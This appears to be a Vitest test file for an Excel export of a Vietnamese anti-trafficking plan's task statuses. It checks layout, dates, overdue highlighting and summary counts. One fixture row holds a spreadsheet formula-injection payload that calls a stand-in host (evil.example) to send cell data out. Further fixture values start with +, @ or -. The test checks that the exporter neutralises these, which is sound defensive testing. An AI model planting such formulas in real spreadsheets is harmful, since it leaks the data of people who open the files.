import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { TaskStatusRow } from './plan-document-model.ts';
import {
  HEADER_ROW,
  OVERDUE_FILL_ARGB,
  SUMMARY_SHEET_NAME,
  TASK_HEADERS,
  TASK_SHEET_NAME,
  formatVietnamDateTime,
  renderTaskStatusXlsx,
  safeText,
} from './task-status-xlsx.ts';

const base: TaskStatusRow = {
  section: 'II.1',
  content: '',
  lead: 'Công an thành phố',
  coordinating: [],
  requested: [],
  deadline: null,
  recurrence: null,
  status: 'Đang thực hiện',
  progressPercent: null,
  isOverdue: false,
  lastUpdate: null,
  lastUpdateNote: null,
};

const rows: TaskStatusRow[] = [
  {
    ...base,
    content: 'Đấu tranh, triệt phá các đường dây mua bán người qua biên giới',
    coordinating: ['Bộ Chỉ huy Bộ đội Biên phòng thành phố', 'Sở Lao động - Thương binh và Xã hội'],
    requested: ['Viện kiểm sát nhân dân thành phố', 'Tòa án nhân dân thành phố'],
    deadline: '2024-06-15',
    status: 'Đang thực hiện',
    progressPercent: 60,
    lastUpdate: '2024-05-20T02:30:00Z',
    lastUpdateNote: 'Đã triệt phá 02 đường dây',
  },
  {
    ...base,
    section: 'II.2',
    content: 'Tiếp nhận, hỗ trợ nạn nhân bị mua bán trở về',
    lead: 'Sở Lao động - Thương binh và Xã hội',
    deadline: '2024-03-31',
    status: 'Chưa thực hiện',
    progressPercent: 0,
    isOverdue: true,
  },
  {
    ...base,
    section: 'II.3',
    content: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    lead: '+Sở Tư pháp',
    coordinating: ['@Sở Thông tin và Truyền thông'],
    recurrence: 'Hằng năm',
    status: 'Hoàn thành',
    progressPercent: 100,
    lastUpdateNote: '-1+1',
  },
  {
    ...base,
    section: 'II.4',
    content: 'Tuyên truyền về phòng, chống mua bán người trên các phương tiện thông tin đại chúng',
    deadline: '2024-12-31',
    recurrence: 'Thường xuyên',
    status: 'Đang thực hiện',
    progressPercent: 40,
  },
];

async function load(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  return wb;
}

describe('helpers', () => {
  it('formats the generation time in Vietnam time', () => {
    expect(formatVietnamDateTime('2024-05-20T17:05:00Z')).toBe('21/05/2024 00:05');
    expect(formatVietnamDateTime('2024-05-20T08:05:00+07:00')).toBe('20/05/2024 08:05');
  });

  it('neutralises formula-like text', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(safeText(s).startsWith("'")).toBe(true);
    expect(safeText('Công an')).toBe('Công an');
    expect(safeText(null)).toBe('');
  });
});

describe('renderTaskStatusXlsx', () => {
  it('writes the task sheet with title, subtitle, headers, dates, numbers, highlight and filter', async () => {
    const wb = await load(
      await renderTaskStatusXlsx({
        planTitle: 'Thực hiện công tác phòng, chống mua bán người năm 2024',
        planNumber: '45/KH-UBND',
        generatedAt: '2024-05-21T03:15:00Z',
        rows,
      }),
    );
    const ws = wb.getWorksheet(TASK_SHEET_NAME)!;
    expect(ws).toBeDefined();

    expect(String(ws.getCell('A1').value)).toContain('Thực hiện công tác phòng, chống mua bán người năm 2024');
    expect(ws.getCell('A1').isMerged).toBe(true);
    expect(ws.getCell('L1').master.address).toBe('A1');
    expect(String(ws.getCell('A2').value)).toContain('Số: 45/KH-UBND');
    expect(String(ws.getCell('A2').value)).toContain('21/05/2024 10:15');

    const header = ws.getRow(HEADER_ROW);
    expect(TASK_HEADERS.map((_, i) => header.getCell(i + 1).value)).toEqual([
      'STT',
      'Phần/mục',
      'Nội dung nhiệm vụ',
      'Cơ quan chủ trì',
      'Cơ quan phối hợp',
      'Cơ quan được đề nghị',
      'Thời hạn',
      'Định kỳ',
      'Trạng thái',
      'Tiến độ (%)',
      'Cập nhật gần nhất',
      'Ghi chú',
    ]);
    expect(header.getCell(1).font?.bold).toBe(true);
    expect(header.getCell(1).border?.top?.style).toBe('thin');
    expect((header.getCell(1).fill as ExcelJS.FillPattern).pattern).toBe('solid');
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: HEADER_ROW });
    expect(ws.autoFilter).toBeTruthy();
    expect(ws.actualRowCount).toBe(HEADER_ROW - 1 + rows.length); // rows 1, 2, header, data (row 3 blank)
    expect(ws.rowCount).toBe(HEADER_ROW + rows.length);

    const first = ws.getRow(HEADER_ROW + 1);
    expect(first.getCell(1).value).toBe(1);
    expect(first.getCell(5).value).toBe('Bộ Chỉ huy Bộ đội Biên phòng thành phố; Sở Lao động - Thương binh và Xã hội');
    const deadline = first.getCell(7).value;
    expect(deadline).toBeInstanceOf(Date);
    expect((deadline as Date).toISOString().slice(0, 10)).toBe('2024-06-15');
    expect(first.getCell(7).numFmt).toBe('dd/mm/yyyy');
    expect(first.getCell(10).value).toBe(60);
    const updated = first.getCell(11).value as Date;
    expect(updated).toBeInstanceOf(Date);
    expect(updated.toISOString().slice(0, 16)).toBe('2024-05-20T09:30'); // Vietnam wall-clock time
    expect(first.getCell(3).alignment?.wrapText).toBe(true);
    expect((first.getCell(1).fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb).not.toBe(OVERDUE_FILL_ARGB);

    const overdue = ws.getRow(HEADER_ROW + 2);
    for (const col of [1, 3, 12]) expect((overdue.getCell(col).fill as ExcelJS.FillPattern).fgColor?.argb).toBe(OVERDUE_FILL_ARGB);
    expect(String(overdue.getCell(12).value)).toContain('Quá hạn');

    const injected = ws.getRow(HEADER_ROW + 3);
    const content = injected.getCell(3);
    expect(content.type).toBe(ExcelJS.ValueType.String);
    expect(content.formula).toBeUndefined();
    expect(content.value).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`);
    expect(injected.getCell(4).value).toBe("'+Sở Tư pháp");
    expect(injected.getCell(5).value).toBe("'@Sở Thông tin và Truyền thông");
    expect(injected.getCell(12).value).toBe("'-1+1");
    expect(injected.getCell(7).value).toBeNull();
    expect(injected.getCell(8).value).toBe('Hằng năm');
    ws.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('counts tasks by status and by lead agency on the summary sheet', async () => {
    const wb = await load(
      await renderTaskStatusXlsx({ planTitle: 'KH 2024', planNumber: null, generatedAt: '2024-05-21T03:15:00Z', rows }),
    );
    expect(String(wb.getWorksheet(TASK_SHEET_NAME)!.getCell('A2').value)).toContain('chưa có số');
    const ws = wb.getWorksheet(SUMMARY_SHEET_NAME)!;
    const table = new Map<string, unknown[]>();
    let section = '';
    ws.eachRow((row) => {
      const label = String(row.getCell(1).value ?? '');
      if (/^\d\. /.test(label)) section = label;
      else table.set(`${section}|${label}`, [row.getCell(2).value, row.getCell(3).value]);
    });
    expect(table.get('1. Theo trạng thái|Đang thực hiện')?.[0]).toBe(2);
    expect(table.get('1. Theo trạng thái|Chưa thực hiện')?.[0]).toBe(1);
    expect(table.get('1. Theo trạng thái|Hoàn thành')?.[0]).toBe(1);
    expect(table.get('1. Theo trạng thái|Tổng cộng')?.[0]).toBe(4);
    expect(table.get('2. Theo cơ quan chủ trì|Công an thành phố')).toEqual([2, 0]);
    expect(table.get('2. Theo cơ quan chủ trì|Sở Lao động - Thương binh và Xã hội')).toEqual([1, 1]);
    expect(table.get("2. Theo cơ quan chủ trì|'+Sở Tư pháp")).toEqual([1, 0]);
    expect(table.get('2. Theo cơ quan chủ trì|Tổng cộng')).toEqual([4, 1]);
  });

  it('handles an empty task list', async () => {
    const wb = await load(
      await renderTaskStatusXlsx({ planTitle: 'KH trống', planNumber: '01/KH-BCĐ', generatedAt: 'not a date', rows: [] }),
    );
    const ws = wb.getWorksheet(TASK_SHEET_NAME)!;
    expect(ws.getRow(HEADER_ROW).getCell(1).value).toBe('STT');
    expect(ws.rowCount).toBe(HEADER_ROW);
    expect(wb.getWorksheet(SUMMARY_SHEET_NAME)).toBeDefined();
  });
});
